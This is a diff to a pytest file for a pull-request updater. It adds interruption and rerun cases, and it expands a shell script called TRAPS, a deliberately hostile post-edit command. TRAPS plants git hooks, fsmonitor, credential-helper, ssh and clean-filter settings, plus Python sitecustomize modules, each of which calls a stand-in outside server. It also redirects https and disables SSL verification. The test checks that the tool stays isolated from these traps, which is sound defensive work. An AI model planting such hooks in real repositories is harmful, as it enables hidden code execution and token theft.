@@ -27,6 +27,7 @@ def test_a_newer_image_updates_the_same_pull_request(update: Update) -> None:
     ("effect", "kill", "rerun"),
     [
         pytest.param(f"push refs/heads/{BRANCH}", True, "created", id="killed after the push"),
+        pytest.param(f"push refs/heads/{BRANCH}", False, "created", id="cancelled after the push"),
         pytest.param("create pull request 1", False, "unchanged", id="cancelled after the pull request was created"),
     ],
 )
@@ -34,10 +35,19 @@ def test_a_rerun_of_an_interrupted_run_ends_in_one_pull_request(
     update: Update, effect: str, kill: bool, rerun: str
 ) -> None:
     world = update.world
-    world.github.after_effect = lambda seen: world.interrupt(kill=kill) if seen == effect else None
+    fired: list[str] = []
+
+    def interrupt(seen: str) -> None:
+        if seen == effect and not fired:
+            fired.append(seen)
+            world.interrupt(kill=kill)
+
+    world.github.after_effect = interrupt
     interrupted = update.start(extra_args=["--reproducible"])
-    world.github.after_effect = None
-    if interrupted.succeeded:  # Tekton makes a pod anew that was lost without a word
+    assert fired == [effect]
+    if not kill:
+        assert interrupted.reason == "Cancelled"
+    elif interrupted.succeeded:  # Tekton makes a pod anew that was lost without a word
         rerun = "unchanged"
     again = update.start(extra_args=["--reproducible"])
     assert (operation(again), update.proposed()) == (rerun, [(1, "open", HEAD, update.edited(again))])
@@ -79,41 +89,49 @@ def test_the_post_edit_command_runs_in_the_tree(update: Update) -> None:
 
 
 TRAPS = """\
-call="python -c \\"import urllib.request as r; r.urlopen('$0/fallen')\\""
 home=${HOME:-/tekton/home}
-printf '#!/bin/sh\\n%s\\n' "$call" > "$home/trap.sh" && chmod +x "$home/trap.sh"
-for hook in pre-commit pre-push reference-transaction post-index-change; do cp "$home/trap.sh" .git/hooks/$hook 2>/dev/null \\
-  || { mkdir -p .git/hooks && cp "$home/trap.sh" .git/hooks/$hook; }; done
+for name in fsmonitor ssh credential clean pre-commit pre-push reference-transaction post-index-change; do
+  printf '#!/bin/sh\\npython -c "import urllib.request as r; r.urlopen(\\\"%s/fallen/%s\\\")" 2> /dev/null\\ncat\\n' "$0" $name > "$home/trap-$name"
+  chmod +x "$home/trap-$name"
+  case $name in *-*) mkdir -p .git/hooks && cp "$home/trap-$name" .git/hooks/$name ;; esac
+done
 cat > "$home/.gitconfig" <<CONFIG
 [core]
-  fsmonitor = $home/trap.sh
-  sshCommand = $home/trap.sh
+  fsmonitor = $home/trap-fsmonitor
+  sshCommand = $home/trap-ssh
   hooksPath = $PWD/.git/hooks
+[user]
+  name = nobody
+  email = nobody@example.com
 [credential]
-  helper = !$home/trap.sh
+  helper = !$home/trap-credential
 [remote "origin"]
   url = $0/evil/manifests.git
-[url "$0/"]
-  insteadOf = https
-  pushInsteadOf = https
+[url "$0/instead/"]
+  insteadOf = https://
+  pushInsteadOf = https://
 [http]
-  proxy = $0
   sslVerify = false
 [filter "evil"]
-  clean = $home/trap.sh
+  clean = $home/trap-clean
 CONFIG
-cp "$home/.gitconfig" .git/config
+cat "$home/.gitconfig" >> .git/config
 printf 'machine localhost login bot password x\\n' > "$home/.netrc"
 mkdir -p "$home/.config/git" "$home/.local/lib/python3.11/site-packages" steps
 cp "$home/.gitconfig" "$home/.config/git/config"
 for module in sitecustomize usercustomize github git json steps/__init__; do
-  printf 'import urllib.request as r\\nr.urlopen("%s/fallen")\\n' "$0" > $module.py
+  printf 'import urllib.request as r\\nr.urlopen("%s/fallen/python")\\n' "$0" > $module.py
 done
 cp sitecustomize.py "$home/.local/lib/python3.11/site-packages/usercustomize.py"
 echo '* filter=evil' > .gitattributes
-git status > /dev/null 2>&1 || true
+git add --all < /dev/null || true
+git commit --quiet --message=evil < /dev/null || true
+git ls-remote https://example.com/x < /dev/null > /dev/null 2>&1 || true
+GIT_SSH_COMMAND= git ls-remote ssh://example.com/x < /dev/null > /dev/null 2>&1 || true
+env -u PYTHONSAFEPATH python -c 'import json' > /dev/null 2>&1 || true
 python -c "import urllib.request as r; r.urlopen('$0/all-set')" 2> /dev/null || true
 """
+FALLEN = {"/fallen/fsmonitor", "/fallen/clean", "/fallen/pre-commit", "/fallen/reference-transaction", "/fallen/python"}
 
 
 def test_nothing_runs_and_no_token_leaves_whatever_the_post_edit_command_sets_up(update: Update, tmp_path: Any) -> None:
@@ -123,7 +141,8 @@ def test_nothing_runs_and_no_token_leaves_whatever_the_post_edit_command_sets_up
         run = update.start(post_edit_command=["sh", "-euc", TRAPS, elsewhere.url])
         assert operation(run) == "created"
         paths = [request.path for request in elsewhere.requests]
-        assert "/fallen" in paths[: paths.index("/all-set")]  # the traps work
+        before = paths[: paths.index("/all-set")]
+        assert (FALLEN - set(before), any(path.startswith("/instead/") for path in before)) == (set(), True)
         assert paths[paths.index("/all-set") + 1 :] == []
         assert elsewhere.pull_requests("evil/manifests") == []
     assert update.proposed() == [(1, "open", HEAD, update.edited(run))]
